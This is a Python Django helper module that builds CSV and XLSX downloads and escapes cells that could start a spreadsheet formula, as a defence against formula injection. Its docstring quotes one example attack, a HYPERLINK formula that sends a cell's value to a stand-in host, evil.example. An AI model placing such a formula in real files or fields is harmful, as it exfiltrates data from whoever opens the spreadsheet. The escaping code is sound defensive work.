"""CSV and XLSX downloads: every exported cell passes `neutral_cell`, so a name such as
`=HYPERLINK("http://evil.example/?d="&B2)` arrives as text, never as a live formula (CSV/formula injection).

Every CSV/XLSX export (attendance, roster, audit) builds its file and response here.
"""

import csv
import io
import re

from django.http import HttpResponse

# A leading character that Excel, LibreOffice or Google Sheets read as the start of a formula (or a DDE
# command), including the full-width forms some keyboards type.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"-?\d+([.,]\d+)?")
CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def neutral_cell(value):
    """The value as a spreadsheet shows it and never evaluates it: text that could start a formula gets a
    leading apostrophe; numbers, dates and plain text are kept as they are."""
    if not isinstance(value, str):
        return value
    stripped = value.lstrip(" ")
    if stripped[:1] in FORMULA_STARTS and value != "-" and not NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutral_row(row) -> list:
    return [neutral_cell(value) for value in row]


def csv_bytes(headers, rows) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(neutral_row(headers))
    writer.writerows(neutral_row(row) for row in rows)
    return buffer.getvalue().encode("utf-8-sig")  # BOM: Excel opens UTF-8 names correctly


def xlsx_bytes(sheet_title: str, headers, rows) -> bytes:
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=sheet_title[:31])
    sheet.append(neutral_row(headers))
    for row in rows:
        sheet.append(neutral_row(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def table_bytes(fmt: str, sheet_title: str, headers, rows) -> bytes:
    """The file in `fmt` ("csv" or "xlsx"); KeyError for any other format."""
    return {"csv": lambda: csv_bytes(headers, rows), "xlsx": lambda: xlsx_bytes(sheet_title, headers, rows)}[fmt]()


def download_response(content: bytes, *, fmt: str, filename: str) -> HttpResponse:
    response = HttpResponse(content, content_type=CONTENT_TYPES[fmt])
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


class _Echo:
    def write(self, value):
        return value


def csv_lines(headers, rows):
    """CSV text line by line for a StreamingHttpResponse, every cell neutral."""
    writer = csv.writer(_Echo())
    yield writer.writerow(neutral_row(headers))
    for row in rows:
        yield writer.writerow(neutral_row(row))
